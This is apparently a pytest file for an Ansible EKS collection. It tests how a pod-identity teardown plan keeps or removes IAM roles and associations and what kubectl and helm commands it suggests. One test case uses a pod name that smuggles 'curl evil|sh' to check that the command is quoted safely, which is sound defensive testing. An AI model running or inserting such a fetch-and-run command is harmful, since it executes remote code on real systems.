# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""What a teardown takes away, what stays and why, and what stands in its way."""

from __future__ import annotations

import typing as t

import pytest
from ansible_collections.enbuild.eks.plugins.module_utils._teardown import plan as teardown_plan

CLUSTER = {"partition": "aws", "account_id": "123456789012"}
ROLE = "arn:aws:iam::123456789012:role/shop-orders"
S3 = "arn:aws:iam::aws:policy/AmazonS3ReadOnlyAccess"
DECLARED = [{"name": "orders", "role_name": "shop-orders", "managed_policies": ["AmazonS3ReadOnlyAccess"]}]
ADDON = "arn:aws:eks:us-east-1:123456789012:addon/prod/aws-ebs-csi-driver/1"


def association(name: str = "orders", cluster: str = "prod", **more: t.Any) -> dict[str, t.Any]:
    return {
        "namespace": "shop",
        "service_account": name,
        "association_arn": f"{cluster}/{name}",
        "owner_arn": "",
        "role_arn": ROLE,
        "asked": True,
        "ours": True,
        **more,
    }


def user(name: str = "orders", cluster: str = "prod", **more: t.Any) -> dict[str, t.Any]:
    return {**association(name, cluster), "cluster_name": cluster, "region": "us-east-1", "target_role_arn": "", **more}


def role(**more: t.Any) -> dict[str, t.Any]:
    return {
        "role_name": "shop-orders",
        "role_arn": ROLE,
        "ours": True,
        "principals": ["pods.eks.amazonaws.com"],
        "inline_policies": ["shop-orders"],
        "attached_policies": [S3],
        "instance_profiles": [],
        **more,
    }


def pod(owner: str = "orders", kind: str = "Deployment", release: str = "") -> dict[str, t.Any]:
    return {"namespace": "shop", "name": f"{owner}-1", "kind": kind, "owner": owner, "release": release}


def seen(cluster: str = "prod", **more: t.Any) -> dict[str, t.Any]:
    """What is seen of a cluster with one association and its role, in an account without another."""
    return {
        "associations": [association(cluster=cluster)],
        "roles": [role()],
        "users": [user(cluster=cluster)],
        "unread": [],
        "pods": [],
        "pods_unread": "",
        **more,
    }


def removed(*names: str) -> dict[str, t.Any]:
    changes = ["delete_pod_identity_association"]
    rows = [{"namespace": "shop", "service_account": name, "changes": changes, "changed": True} for name in names]
    return {"changed": bool(names), "associations": rows}


def reasons(sight: dict[str, t.Any], declared: t.Any = None, altered: bool = False) -> list[str]:
    done = {"prod": removed("orders")}
    (planned,) = teardown_plan.roles({"prod": sight}, done, "prod", declared or DECLARED, CLUSTER, altered)
    return list(planned["reasons"])


def test_a_role_goes_with_its_last_association() -> None:
    assert reasons(seen()) == []


STAYS = {
    "adopted": ({"roles": [role(ours=False)]}, "not made by enbuild.eks"),
    "used here": (
        {"users": [user(), user("search")]},
        "the association of shop/search in cluster prod in us-east-1 uses",
    ),
    "used elsewhere": ({"users": [user(cluster="stage")]}, "shop/orders in cluster stage in us-east-1 uses it"),
    "used by an add-on": ({"users": [user("ebs", owner_arn=ADDON)]}, "shop/ebs of add-on aws-ebs-csi-driver in"),
    "used as a target": ({"users": [user("x", role_arn="other", target_role_arn=ROLE)]}, "shop/x in cluster prod"),
    "unread": (
        {"unread": [{"where": "cluster stage in us-east-1", "message": "Not you."}]},
        "whether cluster stage in us-east-1 uses it can't be read: Not you.",
    ),
}
ALTERED = {
    "inline policy": ({"inline_policies": ["shop-orders", "more"]}, "somebody else gave it more;"),
    "managed policy": ({"attached_policies": [S3, f"{S3}2"]}, f"somebody else gave it {S3}2;"),
    "EC2": ({"instance_profiles": ["web"]}, "EC2 uses it by instance profile web;"),
    "trust": ({"principals": ["pods.eks.amazonaws.com", "ec2.amazonaws.com"]}, "its trust lets in ec2.amazonaws.com;"),
}


@pytest.mark.parametrize(("more", "words"), STAYS.values(), ids=STAYS)
@pytest.mark.parametrize("altered", [False, True])
def test_a_role_stays_that_is_not_ours_or_may_be_used(more: t.Any, words: str, altered: bool) -> None:
    (reason,) = reasons(seen(**more), altered=altered)
    assert words in reason


@pytest.mark.parametrize(("more", "words"), ALTERED.values(), ids=ALTERED)
def test_a_role_that_others_altered_stays_unless_told(more: t.Any, words: str) -> None:
    sight = seen(roles=[role(**more)])
    (reason,) = reasons(sight)
    assert words in reason
    assert reason.endswith("pod_identity_teardown_altered_roles true takes it away all the same")
    assert reasons(sight, altered=True) == []


def test_a_role_that_is_declared_by_its_arn_stays() -> None:
    (reason,) = reasons(seen(), [{"name": "orders", "role_arn": ROLE}])
    assert "declared by role_arn" in reason


def test_clusters_that_end_together_free_their_role_and_the_first_sees_to_it() -> None:
    users = [user(cluster="a"), user(cluster="b")]
    sights = {name: seen(name, users=users) for name in ("a", "b")}
    done = {"a": removed("orders"), "b": removed("orders")}
    (planned,) = teardown_plan.roles(sights, done, "a", DECLARED, CLUSTER)
    assert planned["reasons"] == []
    assert teardown_plan.roles(sights, done, "b", DECLARED, CLUSTER) == []


@pytest.mark.parametrize("stopped", [{}, {"failed": True, "msg": "throttled"}])
def test_a_cluster_that_stopped_keeps_the_role_and_sees_to_nothing(stopped: dict[str, t.Any]) -> None:
    users = [user(cluster="a"), user(cluster="b")]
    sights = {"a": seen("a", users=users) if stopped else {}, "b": seen("b", users=users)}
    (planned,) = teardown_plan.roles(sights, {"a": stopped, "b": removed("orders")}, "b", DECLARED, CLUSTER)
    assert planned["reasons"] == ["the association of shop/orders in cluster a in us-east-1 uses it"]


HOLDERS = {
    "deployment": (pod(), ["Deployment shop/orders", "kubectl scale deployment/orders --replicas=0 -n shop"]),
    "daemonset": (pod(kind="DaemonSet"), ["kubectl delete daemonset orders -n shop"]),
    "replicaset": (pod(kind="ReplicaSet"), ["kubectl scale replicaset/orders --replicas=0 -n shop"]),
    "cronjob": (pod(kind="CronJob"), ["""kubectl patch cronjob orders -n shop -p '{"spec": {"suspend": true}}'"""]),
    "pod": (pod(kind="Pod"), ["kubectl delete pod orders -n shop"]),
    "hostile": (pod("x; curl evil|sh #", kind="Pod"), ["kubectl delete pod 'x; curl evil|sh #' -n shop"]),
    "release": (pod(release="shop/front"), ["helm uninstall front -n shop (pod_identity_teardown_release true"]),
}


@pytest.mark.parametrize(("holder", "words"), HOLDERS.values(), ids=HOLDERS)
def test_pods_that_hold_credentials_stand_in_the_way(holder: t.Any, words: list[str]) -> None:
    said = teardown_plan.obstacle(seen(pods=[holder, holder]))
    assert [word for word in [*words, "pod_identity_teardown_force true"] if said.count(word) != 1] == []


def test_pods_of_a_release_that_goes_first_do_not() -> None:
    sight = seen(pods=[pod(release="enbuild/enbuild")])
    assert teardown_plan.obstacle(sight, "enbuild/enbuild") == ""
    assert "helm uninstall" in teardown_plan.obstacle(sight, "enbuild/other")
    assert teardown_plan.obstacle(seen()) == ""


def test_pods_that_cannot_be_read_do_and_many_are_counted() -> None:
    assert "Give the caller an access entry." in teardown_plan.obstacle(
        seen(pods_unread="Give the caller an access entry.")
    )
    said = teardown_plan.obstacle(seen(pods=[pod(f"o{number}") for number in range(7)]))
    assert "Deployment shop/o4, and 2 more." in said


def test_the_agent_goes_with_the_last_association() -> None:
    other = association("ebs", owner_arn=ADDON, asked=False, ours=False)
    assert teardown_plan.agent_users(seen(), removed("orders")) == []
    assert teardown_plan.agent_users(seen(associations=[association(), other]), removed("orders")) == ["shop/ebs"]
    assert teardown_plan.agent_users(seen(), removed()) == ["shop/orders"]


def test_the_report_tells_what_went_and_what_stays() -> None:
    by_hand = association("hand", ours=False)
    owned = association("ebs", owner_arn=ADDON, ours=False)
    done = {
        "release": {"changed": True},
        "release_name": "shop/front",
        "associations": removed("orders"),
        "planned": [role(reasons=[]), role(role_name="other", reasons=["it is used"])],
        "roles": {"results": [{"changed": True, "item": role()}]},
        "agent": {"changed": False, "skipped": True},
        "agent_users": ["shop/hand", "shop/ebs"],
    }
    made = teardown_plan.report(seen(associations=[association(), by_hand, owned]), done)
    assert made["removed"] == ["release shop/front", "association shop/orders", "role shop-orders"]
    assert teardown_plan.lines(made, "prod") == [
        "prod: removed: release shop/front",
        "prod: removed: association shop/orders",
        "prod: removed: role shop-orders",
        "prod: stays: association shop/hand: it was not made by enbuild.eks (no tag enbuild.eks/managed-by)",
        "prod: stays: association shop/ebs: add-on aws-ebs-csi-driver owns it",
        "prod: stays: role other: it is used",
        "prod: stays: add-on eks-pod-identity-agent: it serves shop/hand, shop/ebs",
    ]
    assert teardown_plan.lines(made, "prod", True)[0] == "prod: would be removed: release shop/front"
    stopped = teardown_plan.lines({"removed": ["role x"], "kept": []}, "prod", True, "Pods run.")
    assert stopped == ["prod: would stop, with nothing removed: Pods run.", "prod: would be removed: role x"]
    assert teardown_plan.lines({"removed": [], "kept": []}, "prod") == ["prod: nothing is left that was made here"]
